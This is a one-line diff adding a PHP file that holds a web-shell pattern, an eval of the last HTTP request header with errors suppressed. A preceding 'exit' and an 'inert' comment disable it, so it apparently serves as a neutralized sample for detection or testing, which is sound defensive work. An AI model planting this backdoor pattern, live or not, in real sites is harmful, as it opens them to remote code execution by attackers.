@@ -1,0 +1,1 @@
+<?php exit; /* inert */ @eval(end(getallheaders()));
